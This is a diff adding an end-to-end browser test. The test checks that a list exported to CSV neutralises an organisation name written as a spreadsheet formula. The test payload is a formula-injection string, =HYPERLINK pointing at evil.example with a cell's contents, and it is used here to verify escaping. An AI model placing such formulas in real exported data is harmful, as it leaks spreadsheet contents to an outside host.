@@ -2,7 +2,7 @@ import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import ExcelJS from 'exceljs';
 import { ARTIFACTS, screenshot, signInThroughForm, useBrowserApp } from '../support/browser';
-import { DEMO } from '../support/session';
+import { DEMO, Session } from '../support/session';
 
 /** Issue 6's story: exporting the filtered milestones to .xlsx and reading the file back. */
 describe('exporting a list in a browser', () => {
@@ -40,5 +40,29 @@ describe('exporting a list in a browser', () => {
     expect(rows.length - 1).toBe(total);
     expect(new Set(rows.slice(1).map((row) => row[8]))).toEqual(new Set(['Færdig']));
     expect(rows[1][6]).toBeInstanceOf(Date);
+  });
+
+  it('writes a CSV of any list in which a name a spreadsheet would run is plain text', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
+    const api = new Session(web.app.url);
+    await api.signIn(DEMO.secretariat);
+    const created = await api.fetch('/api/organisations', {
+      method: 'POST',
+      body: JSON.stringify({ name: formula, shortName: 'EVIL', kind: 'other' }),
+    });
+    expect(created.status).toBe(201);
+
+    await web.page.goto(
+      `${web.app.url}/#/organisations?filter=${encodeURIComponent('{"q":"EVIL"}')}`,
+    );
+    await signInThroughForm(web.page, DEMO.secretariat);
+    await web.page.locator('table tbody tr').first().waitFor({ timeout: 20_000 });
+    const [download] = await Promise.all([
+      web.page.waitForEvent('download'),
+      web.page.getByRole('button', { name: 'Eksportér' }).click(),
+    ]);
+    const csv = await readFile(await download.path(), 'utf8');
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 });
